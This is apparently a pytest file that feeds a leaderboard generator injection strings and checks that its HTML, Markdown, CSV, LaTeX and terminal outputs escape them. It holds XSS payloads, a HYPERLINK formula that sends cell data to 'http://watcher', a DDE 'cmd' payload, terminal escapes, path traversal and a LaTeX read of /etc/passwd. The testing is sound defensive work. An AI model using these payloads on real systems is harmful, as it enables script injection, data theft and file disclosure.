"""Records of others whose texts would be markup, links, formulas, commands of a terminal, or paths."""

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from src.leaderboard.assemble import Choices
from src.leaderboard.board import write_leaderboard
from src.leaderboard.flat import FORMULA
from src.tracking.records import GALLERY_RULES, GALLERY_VIEWS
from tests.leaderboard.conftest import MakeRecord, maker

MARKUP = (
    "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"><svg onload='alert(3)'>javascript:alert(4)"
    "![a](http://watcher/pixel.png) [b](javascript:alert(5))"
)
HOSTILE = (
    MARKUP,
    '=HYPERLINK("http://watcher?x="&A1)',
    "@SUM(A1)" + "x" * 3000,
    "+1+cmd|' /C calc'!A0\n# heading\n- | cell |",
    "\x1b]0;title\x07\x1b[2J\x9b31m\u202e\udcff\ud800",
    "../../../outside\\input{/etc/passwd}$\\frac{1}{0}_{",
)
TEXTS = ("study", "question", "run", "commit", "command", "arm", "stage", "restorer")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\ud800-\udfff]")


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A leaderboard of studies that bear all those texts wherever a record has one."""
    root = tmp_path_factory.mktemp("records")
    make = maker(root)
    for text in HOSTILE:
        _hostile(make, text)
    board = write_leaderboard(root, root / "out", Choices(resamples=100))
    assert board.problems == []
    (root / "out" / "terminal.txt").write_text(board.text, encoding="utf-8")
    return root / "out"


def _hostile(make: MakeRecord, text: str) -> None:
    number = HOSTILE.index(text)
    for arm, fidelity in (("one", 0.0), ("one", 1.0), ("two", 0.5)):
        stored = make(f"{arm}{number}", fidelity, shift=0.02 * fidelity)
        path = stored.folder / "result.json"
        data: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
        data |= {key: f"{text}{arm}" if key == "arm" else text for key in TEXTS}
        data["benchmark"] |= {"name": text, "recipe": text, "split": text}
        data |= {key: {text: text} for key in ("hardware", "weights", "licences", "missing", "config")}
        # Names of packages are only shown where their versions differ.
        data["packages"] = {text: f"1.{arm}{text}", "torch": f"2.0+{text}"}
        data["knobs"] = {"fidelity": fidelity, text: text}
        data["gallery"] = {"metric": text, "faces": {rule: {"name": text, "value": 0.5} for rule in GALLERY_RULES}}
        path.write_text(json.dumps(data), encoding="utf-8")
        (stored.folder / "faces").mkdir(exist_ok=True)
        for name in (f"{rule}-{view}.png" for rule in GALLERY_RULES for view in GALLERY_VIEWS):
            Image.fromarray(np.full((8, 8, 3), 90, np.uint8)).save(stored.folder / "faces" / name)


class _Page(HTMLParser):
    """Tags with their attributes, as a browser without scripts sees them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs


def test_the_page_has_no_element_of_theirs(written: Path) -> None:
    page = _Page((written / "leaderboard.html").read_text(encoding="utf-8"))
    assert page.tags.count("script") == 2
    assert not {"img", "svg", "a", "iframe"} & set(page.tags)
    assert not [name for name, _ in page.attributes if name.startswith("on") or name in ("href", "src")]


def test_the_document_has_no_markup_link_or_line_of_theirs(written: Path) -> None:
    text = (written / "leaderboard.md").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror" in text
    assert not re.search(r"<\s*[a-z/!]", text, re.IGNORECASE)
    pictures = re.findall(r"(?<!\\)\]\(([^)]*)\)", text)
    assert all((written / place).is_file() for place in pictures)
    assert "\n# heading" not in text


def test_cells_are_no_formulas(written: Path) -> None:
    with (written / "leaderboard.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    texts = [cell for row in rows for cell in row if not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell)]
    assert not [cell for cell in texts if cell.startswith(FORMULA)]
    assert any(cell.startswith("'=HYPERLINK") for cell in texts), "the formula is not there, which proves nothing"


def test_tables_for_papers_run_nothing(written: Path) -> None:
    text = (written / "leaderboard.tex").read_text(encoding="utf-8")
    assert "\\input" not in text
    assert r"\textbackslash{}input\{" in text


@pytest.mark.parametrize(
    "name", ["terminal.txt", "leaderboard.md", "leaderboard.csv", "leaderboard.tex", "leaderboard.html"]
)
def test_no_file_commands_a_terminal(written: Path, name: str) -> None:
    assert not CONTROL.search((written / name).read_text(encoding="utf-8"))


def test_nothing_is_written_elsewhere(written: Path) -> None:
    outside = {path.name for path in written.parent.iterdir()}
    assert not [name for name in outside if "outside" in name]
    assert all(path.is_file() and len(path.name) < 255 for path in written.iterdir())
